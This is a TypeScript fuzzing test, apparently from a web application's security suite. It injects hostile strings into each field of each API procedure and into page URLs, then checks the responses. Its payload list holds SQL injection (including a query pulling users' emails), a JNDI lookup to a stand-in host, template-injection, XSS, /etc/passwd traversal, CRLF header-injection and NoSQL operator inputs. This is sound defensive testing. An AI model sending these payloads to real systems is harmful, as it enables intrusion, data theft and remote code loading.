import { randomInt } from 'node:crypto';
import { hostileConstants } from '../../support/api/hostile.ts';
import { procedures } from '../../support/api/procedures.ts';
import { whoMay } from '../../support/people/who-may.ts';
import type { Attacker } from './attackers.ts';
import type { World } from './foreign-ids.ts';
import { inTurns, openSender } from './sender.ts';

const TRICKS: unknown[] = [
  ...hostileConstants,
  "'; select pg_sleep(9); --",
  "' union select email from users --",
  '${jndi:ldap://evil.test/x}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  'a\r\nSet-Cookie: session=x',
  { $ne: null },
  ['x'],
];
/** Each of them hashes what it is given, which takes a fifth of a second: the fewest that still meet every door. */
const HASHING = /^auth\.|^account\.(?:change|claim|erase|disable|start|confirm)/;
const TRICKS_BY_FIELD = 12;
const TRICKS_BY_HASHING_FIELD = 2;
/** They end or take away the attacker's own account. */
const LEAVING = /^auth\.sign(?:Out|Up)/;

/** Texts that mean something to SQL, HTML, templates, paths and readers of JSON, in each field of each procedure. */
export async function tryTexts(
  { origin, inputs, verdicts }: World,
  attackers: readonly Attacker[],
  share: number,
) {
  for (const attacker of attackers) {
    const sender = openSender(origin, attacker.cookie);
    const calls = [...procedures.keys()]
      .filter((path) => whoMay[path]?.[attacker.column] === 'yes' && !LEAVING.test(path))
      .filter((path) => procedures.get(path)?._def.type !== 'subscription')
      .flatMap((path) => tricksFor(path, inputs[path]))
      .filter(() => Math.random() < share);
    await inTurns(calls, async ({ path, input, name }) =>
      verdicts.judge(
        {
          name: `${attacker.name} at ${path} with ${name}`,
          sent: JSON.stringify(input),
          isToBeRefused: false,
        },
        await sender.call(path, input),
      ),
    );
    sender.close();
  }
}

function tricksFor(path: string, valid: unknown) {
  if (typeof valid !== 'object' || valid === null || valid instanceof FormData) return [];
  const times = HASHING.test(path) ? TRICKS_BY_HASHING_FIELD : TRICKS_BY_FIELD;
  return Object.keys(valid).flatMap((field) =>
    Array.from({ length: times }, () => {
      const trick = TRICKS[randomInt(TRICKS.length)];
      return {
        path,
        input: { ...valid, [field]: trick },
        name: `${field} = ${JSON.stringify(trick)?.slice(0, 60)}`,
      };
    }),
  );
}

/** The same texts in the addresses of pages. */
export async function tryAddresses({ origin, verdicts }: World) {
  const sender = openSender(origin);
  const texts = TRICKS.filter((trick): trick is string => typeof trick === 'string').map((text) =>
    encodeURIComponent(text.toWellFormed().slice(0, 2_000)),
  );
  const pages = texts.flatMap((text) => [`/en/search?q=${text}`, `/${text}`, `/en/labs/${text}`]);
  await inTurns(pages, async (path) => {
    const answer = await sender.send('GET', path);
    verdicts.judge({ name: `a page at ${path.slice(0, 100)}`, sent: path, isToBeRefused: false }, answer);
    if (answer.body.includes('<script>alert(1)'))
      verdicts.say(`${path}: a script of the address is in the page`);
  });
  sender.close();
}
